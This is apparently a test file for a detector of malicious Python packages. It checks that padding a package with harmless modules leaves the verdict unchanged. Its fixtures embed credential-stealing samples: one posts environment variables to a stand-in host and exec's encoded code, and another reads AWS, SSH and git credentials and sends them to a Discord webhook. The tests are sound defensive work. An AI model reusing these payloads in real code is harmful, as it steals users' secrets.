// A property of the whole gate (extractor, bundled model, decide()): padding a package with harmless modules
// must not turn a malicious verdict benign, nor a benign one malicious.
import { beforeAll, describe, expect, it } from 'vitest';
import { extractFeatures, initFeatures } from '../../src/features/index.js';
import { bundledModel } from '../../src/model/bundled.js';
import { scoreAnalysis } from '../../src/model/index.js';
import { decide } from '../../src/policy.js';
import { viewOf } from './view.js';

beforeAll(() => initFeatures());

const META = 'Metadata-Version: 2.1\nName: tidy\nVersion: 1.0\nSummary: tidy tables\n';
const HARMLESS = (i: number) =>
  `"""Helpers ${i}."""\n\n\ndef width_${i}(text: str) -> int:\n    return max((len(line) for line in text.splitlines()), default=0)\n\n\nclass Table${i}:\n    def __init__(self, rows):\n        self.rows = list(rows)\n\n    def render(self) -> str:\n        return "\\n".join(" | ".join(map(str, r)) for r in self.rows)\n`;
const pad = (files: Record<string, string>, n: number) => {
  const out = { ...files };
  for (let i = 0; i < n; i++) out[`tidy-1.0/tidy/util${i}.py`] = HARMLESS(i);
  return out;
};
const verdict = (files: Record<string, string>) => {
  const analysis = extractFeatures(viewOf(files));
  const model = bundledModel();
  const score = scoreAnalysis(model, analysis).score;
  return decide({
    ref: { name: 'tidy', version: '1.0' },
    score,
    thresholds: model.thresholds,
    evidence: analysis.evidence,
    signals: [],
    allow: [],
    now: new Date('2026-01-01T00:00:00Z'),
  }).raw;
};

const MALICIOUS = {
  'tidy-1.0/PKG-INFO': META,
  'tidy-1.0/tidy/__init__.py':
    'import os, requests\nrequests.post("https://x.example/c", json=dict(os.environ))\nexec(__import__("base64").b64decode("cHJpbnQoMSk="))\n',
};
// Evidence only at run time (a function the package's API calls): nothing decides on its own, the model does,
// and the unit (the file alone) keeps padding from diluting it.
const RUNTIME_PAYLOAD = {
  'tidy-1.0/PKG-INFO': META,
  'tidy-1.0/tidy/__init__.py': 'from .core import render\n',
  'tidy-1.0/tidy/core.py':
    'import os, requests, platform\n\ndef render(rows):\n    home = os.path.expanduser("~")\n    data = {}\n    for name in (".aws/credentials", ".ssh/id_rsa", ".git-credentials"):\n        try:\n            data[name] = open(os.path.join(home, name)).read()\n        except OSError:\n            pass\n    requests.post("https://discord.com/api/webhooks/1/x", json={"host": platform.node(), "files": data})\n    return "\\n".join(" | ".join(map(str, r)) for r in rows)\n',
};
const BENIGN = {
  'tidy-1.0/PKG-INFO': META,
  'tidy-1.0/tidy/__init__.py': 'from .core import render\n__all__ = ["render"]\n',
  'tidy-1.0/tidy/core.py':
    'def render(rows):\n    return "\\n".join(" | ".join(map(str, r)) for r in rows)\n',
};

describe('padding with harmless modules', () => {
  it.each([0, 12, 60])('keeps a malicious package malicious (%i modules added)', (n) => {
    expect(verdict(pad(MALICIOUS, n))).toBe('malicious');
  });
  it.each([0, 12, 60])('keeps a run-time-only payload malicious (%i modules added)', (n) => {
    expect(verdict(pad(RUNTIME_PAYLOAD, n))).toBe('malicious');
  });
  it('scores the padded package by the payload file alone', () => {
    const analysis = extractFeatures(viewOf(pad(RUNTIME_PAYLOAD, 60)));
    expect(scoreAnalysis(bundledModel(), analysis).unit).toBe('tidy-1.0/tidy/core.py');
  });
  it.each([0, 12, 60])('keeps a benign package out of malicious (%i modules added)', (n) => {
    expect(verdict(pad(BENIGN, n))).not.toBe('malicious');
  });
});
